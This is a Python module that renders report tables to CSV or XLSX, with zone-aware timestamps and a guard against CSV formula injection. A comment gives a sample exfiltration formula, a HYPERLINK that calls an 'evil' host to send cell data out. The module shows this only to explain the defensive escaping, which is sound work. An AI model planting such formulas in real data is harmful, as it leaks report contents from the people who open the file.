"""Report tables written as CSV or XLSX: a header row, then one row per line of the report.

Cells are text, numbers, instants or empty. Instants are in the tenant's zone: in CSV as ISO
8601 with the zone's offset (exact, and unambiguous across a DST change); in XLSX as the
local wall time (a spreadsheet date has no offset; the header names the zone).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime
from typing import Final, Literal
from zoneinfo import ZoneInfo

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

Cell = str | int | float | bool | datetime | None
Format = Literal["csv", "xlsx"]

MEDIA_TYPES: Final[dict[str, str]] = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}

# A spreadsheet opening a CSV treats a cell beginning with one of these as a formula (tab and
# carriage return too: some strip them and then see what follows). Names here come from users
# (queue and agent names, dispositions, ids typed by admins), so a queue named
# `=HYPERLINK("http://evil/?"&A1)` would run in the supervisor's spreadsheet and could send the
# report's data away ("CSV injection", OWASP). Such a text gets a leading apostrophe: shown
# as text, and the original still readable.
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def guarded(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


@dataclass(frozen=True, slots=True)
class Column:
    key: str
    header: str
    # XLSX number format: "0.0%" for shares, a date format for instants; None: the default.
    number_format: str | None = None


@dataclass
class Table:
    title: str  # the sheet's name (31 characters at most in XLSX)
    zone: ZoneInfo
    columns: Sequence[Column]
    rows: list[list[Cell]] = field(default_factory=list)


def _csv_cell(value: Cell, zone: ZoneInfo) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.astimezone(zone).isoformat()
    if isinstance(value, str):
        return guarded(value)
    return repr(value) if isinstance(value, float) else str(value)


def to_csv(table: Table) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([c.header for c in table.columns])
    for row in table.rows:
        writer.writerow([_csv_cell(v, table.zone) for v in row])
    # A byte-order mark: Excel reads a CSV without one in the machine's legacy code page.
    return out.getvalue().encode("utf-8-sig")


def to_xlsx(table: Table) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet(table.title[:31])
    bold = Font(bold=True)
    header = []
    for column in table.columns:
        cell = WriteOnlyCell(sheet, value=column.header)
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    for row in table.rows:
        sheet.append([_xlsx_cell(sheet, column, v, table.zone) for column, v in zip(
            table.columns, row, strict=True)])  # fmt: skip
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_cell(sheet: object, column: Column, value: Cell, zone: ZoneInfo) -> WriteOnlyCell:
    if isinstance(value, datetime):
        value = value.astimezone(zone).replace(tzinfo=None)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl stores a text beginning with "=" as a formula; a cell typed as a string
        # never is one, in any spreadsheet: the name is kept exactly as it is.
        cell.data_type = "s"
    elif column.number_format is not None and value is not None:
        cell.number_format = column.number_format
    return cell


def render(table: Table, fmt: Format) -> bytes:
    return to_csv(table) if fmt == "csv" else to_xlsx(table)
